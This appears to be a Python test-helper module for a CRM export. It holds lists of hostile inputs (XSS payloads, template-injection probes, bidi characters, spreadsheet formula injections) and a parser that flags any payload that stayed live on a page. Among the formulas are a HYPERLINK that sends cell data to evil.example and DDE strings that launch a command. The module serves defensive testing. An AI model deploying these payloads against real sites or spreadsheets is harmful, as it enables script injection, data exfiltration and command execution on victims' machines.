"""Values an attacker puts into a CRM export, and checks that a page or a CSV left them inert.

``MARKUP`` would be live HTML or script on a page, ``TEMPLATE`` would be evaluated by a
template or format-string engine, ``MATH`` would turn into mathtext on a chart, ``BIDI``
reorders the text after it, ``FORMULAS`` a spreadsheet or a CRM import runs (the OWASP list, with
the disguises that get past a check of the first character only). ``live_markup`` parses a page
and lists every element or attribute a payload would have created.
"""

from __future__ import annotations

from html.parser import HTMLParser

MARKUP = [
    "<img src=x onerror=alert(7)>",
    "<script>alert(1)</script>",
    '"><svg onload=alert(2)>',
    "'><iframe src=javascript:alert(3)>",
    "</td></tr></table><a href=javascript:alert(4)>x</a>",
    "<b onmouseover=alert(5)>bold</b>",
    "<!--",
    "<style>*{display:none}</style>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(8)'>",
    "javascript:alert(6)",
]
TEMPLATE = ["{{7*7}}", "{0.__class__}", "{}", "${7*7}", "{% raw %}"]
MATH = ["$\\alpha$", "$x^2$ and $y$", "price $5 to $9"]
BIDI = ["abc\u202edcba", "\u2066isolate\u2069", "a\u200fb", "nul\x00byte", "bell\x07"]
FORMULAS = [
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3",
    "\t=1",
    "\r=1",
    " =1",
    "  \t +1",
    "\u200b=1",
    "\ufeff=1",
    "\x00=1",
    "\u202e=1",
    "＝1",
    "＋1",
    "－1",
    "＠SUM(1)",
]
TEXT = MARKUP + TEMPLATE + MATH + BIDI  # what reaches a page
ALL = TEXT + FORMULAS

UNSAFE_CHARS = {"\u202e", "\u2066", "\u2069", "\u200f", "\x00", "\x07"}


class _Elements(HTMLParser):
    def __init__(self):
        super().__init__(convert_charrefs=True)
        self.found: list[tuple[str, dict]] = []

    def handle_starttag(self, tag, attrs):
        self.found.append((tag, dict(attrs)))

    handle_startendtag = handle_starttag


def elements(page: str) -> list[tuple[str, dict]]:
    """Every start tag of a page with its attributes, as a browser's parser would see them."""
    parser = _Elements()
    parser.feed(page)
    parser.close()
    return parser.found


def live_markup(page: str) -> list[str]:
    """What in a page a hostile value made live: event handlers, script URLs, payload elements.

    Any ``on...`` attribute, any attribute holding a ``javascript:`` URL, an ``<img src=x>``,
    an ``<iframe>``, a ``<script>`` or ``<style>`` whose text is a payload's: the pages' own
    markup has none.
    """
    problems = []
    for tag, attrs in elements(page):
        for name, value in attrs.items():
            if name.startswith("on"):
                problems.append(f"<{tag} {name}={value!r}>")
            if value and "javascript:" in value.replace(" ", "").lower():
                problems.append(f"<{tag} {name}={value!r}>")
        if tag == "img" and attrs.get("src") == "x":
            problems.append("<img src=x>")
        if tag == "iframe":
            problems.append("<iframe>")
    for text in ("<script>alert(", "<style>*{display:none}"):
        if text in page:
            problems.append(text)
    return problems
